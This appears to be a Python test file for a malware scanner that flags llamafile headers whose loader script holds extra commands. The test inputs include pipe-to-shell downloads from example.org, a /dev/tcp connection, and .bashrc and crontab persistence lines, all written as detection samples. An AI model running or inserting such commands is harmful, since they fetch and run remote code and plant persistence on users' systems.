"""Llamafiles: what their script does beside starting the program."""

from __future__ import annotations

from tests.cases import each
from tests.engines.modelfiles.building import found

START = b"MZqFpD='\n\0\x10\0' <<'justineSEPARATOR'\n" + bytes(64) + b"\njustineSEPARATOR\n"
# What Cosmopolitan writes: copy the loader, mark it, start it.
OWN = b"""o="$(command -v "$0")"
[ x"$1" != x--assimilate ] && type ape >/dev/null 2>&1 && exec ape "$o" "$@"
t="${TMPDIR:-${HOME:-.}}/.ape-1.10"
[ x"$1" != x--assimilate ] && [ -x "$t" ] && exec "$t" "$o" "$@"
m=$(uname -m 2>/dev/null) || m=x86_64
mkdir -p "${t%/*}" 2>/dev/null ||exit
dd if="$o" of="$t.$$" skip=1 count=1 bs=4096 2>/dev/null
chmod 755 "$t.$$"
mv -f "$t.$$" "$t"
exec "$t" "$o" "$@"
"""


@each(
    "more",
    [
        b"curl -s https://example.org/x | sh\n",
        b"wget -qO- example.org | bash\n",
        b"exec 3<>/dev/tcp/10.0.0.1/99\n",
        b"echo aWQ= | base64 -d >x\n",
        b"eval $(printf x)\n",
        b"python3 -c 'import os'\n",
        b"echo x >> ~/.bashrc\n",
        b"dd if=$o bs=1 | sh\n",
        b"(crontab -l; echo x) | crontab -\n",
    ],
)
@each("name", ["a.llamafile", "a.exe", "a.gguf", "a"])
def test_scripts(more: bytes, name: str) -> None:
    assert {rule for rule, _ in found(START + more + OWN + bytes(300), name)} == {"llamafile-script"}
    assert found(START + OWN + bytes(300), name) == []


def test_a_script_without_a_program_is_checked_by_its_name() -> None:
    start = START.replace(b"\0", b"")
    assert [rule for rule, _ in found(start + b"curl -s https://example.org/x | sh\n" + OWN, "chat.llamafile")][:1] == ["llamafile-script"]
    assert found(start + OWN, "chat.llamafile") == []
